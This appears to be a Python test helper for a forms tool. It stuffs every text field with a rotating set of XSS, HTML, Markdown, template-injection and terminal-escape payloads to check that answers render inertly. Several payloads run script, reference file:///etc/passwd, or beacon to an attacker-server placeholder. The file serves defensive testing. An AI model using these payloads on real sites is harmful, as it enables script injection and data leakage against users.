"""What an attacker types into a field so that the reader's browser or terminal acts on it."""

import re
from itertools import cycle
from typing import Any

from pdcli.model.forms import Field

# {at} is a server of the attacker's; a page that says anything to it, or changes the window around it, has acted.
SCRIPT = "parent.document.title='acted';new Image().src='{at}/ran'"
IN_PAGES = [
    "<script>" + SCRIPT + "</script>",
    "</title></style></textarea><script>" + SCRIPT + "</script>",
    '"><script>' + SCRIPT + "</script>",
    "'><img src=x onerror=\"" + SCRIPT + '">',
    '" onmouseover="' + SCRIPT + '" autofocus onfocus="' + SCRIPT + '" x="',
    '--><svg onload="' + SCRIPT + '">',
    '<details open ontoggle="' + SCRIPT + '">x</details>',
    "<img src='{at}/picture'>",
    "![x]({at}/markdown)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x) [y](file:///etc/passwd)",
    '[x](https://e.example/"onmouseover="alert(1))',
    "<https://e.example/><script>" + SCRIPT + "</script>",
    "<link rel=stylesheet href='{at}/sheet'><style>@import url({at}/import);</style>",
    "<style>*{{background:url({at}/style)}}</style>",
    "<base href='{at}/'><meta http-equiv=refresh content='0;url={at}/refresh'>",
    "<iframe src='{at}/frame'></iframe><object data='{at}/object'></object><embed src='{at}/embed'>",
    "<video autoplay src='{at}/video'></video><audio autoplay src='{at}/audio'></audio>",
    "<form action='{at}/form'><input name=q><button>x</button></form>",
    "<a href='{at}/ping' ping='{at}/ping'>x</a>",
    '<math><mtext><table><mglyph><style><img src=x onerror="' + SCRIPT + '">',
    "`<script>" + SCRIPT + "</script>`",
    "    <script>" + SCRIPT + "</script>",
    "| <script>" + SCRIPT + "</script> | x |\n|---|---|\n| <img src='{at}/cell'> | y |",
    "{{{{ 7*7 }}}} {{% import 'os' as o %}} {{{{ cycler.__init__.__globals__ }}}}",
    "x\u2028<script>" + SCRIPT + "</script>\u2029",
    "<scr<script>ipt>" + SCRIPT + "</scr</script>ipt>",
    "＜script＞" + SCRIPT + "＜/script＞",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a><use href='{at}/use#x'/></svg>",
    "background:url({at}/attribute)",
    "javascript:alert(1)",
    "{at}/address",
]
IN_TERMINALS = [
    "\x1b[2J\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;http://e.example\x1b\\link\x1b]8;;\x1b\\", "\x9b31mC1", "a\x08\x08b", "bell\x07",
    "\u202egpj.exe", "\u2066left\u2069", "\u200fmark", "nul\x00", "\x7fdel", "\x0bvt\x0c", "a\rb", "\x1bP+q544e\x1b\\", "\x85next",
]  # fmt: skip
# What a terminal obeys, apart from the ends of lines and tabs.
RAW = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]|\r(?!\n)")


class Payloads:
    """Payloads in turn, each as one line or as an answer of several."""

    def __init__(self, texts: list[str], at: str = "") -> None:
        self._texts = cycle([text.format(at=at) if at else text for text in texts])

    def line(self) -> str:
        """The next payload as one line."""
        return " ".join(next(self._texts).split("\n"))

    def answer(self) -> str:
        """The next payload and some text around it."""
        return f"Бірінші жол.\n\n{next(self._texts)}\n\nСоңы."


def filled(fields: tuple[Field, ...], payloads: Payloads, is_wild: bool) -> dict[str, Any]:
    """A payload as the answer to every question that takes text; `is_wild`: to every question of every type."""
    found: dict[str, Any] = {}
    for item in fields:
        match item.type:
            case "text":
                found[item.key] = payloads.answer() if item.long else payloads.line()
            case "list":
                found[item.key] = [payloads.line(), payloads.line()]
            case "table":
                found[item.key] = [filled(item.columns, payloads, is_wild) for _row in range(3)]
            case "sheet":
                found[item.key] = {row.key: filled(item.columns, payloads, is_wild) for row in item.rows}
            case "group":
                found[item.key] = filled(item.fields, payloads, is_wild)
            case _ if is_wild:
                found[item.key] = [payloads.line()] if item.many else payloads.line()
    return found
